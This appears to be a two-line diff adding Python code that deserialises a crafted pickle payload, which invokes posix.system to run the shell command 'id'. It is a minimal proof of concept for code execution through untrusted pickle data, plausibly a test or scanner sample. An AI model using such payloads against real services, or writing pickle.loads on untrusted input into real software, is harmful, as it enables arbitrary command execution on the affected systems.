@@ -1,0 +1,2 @@
+import pickle
+pickle.loads(b"cposix\nsystem\n(S'id'\ntR.")
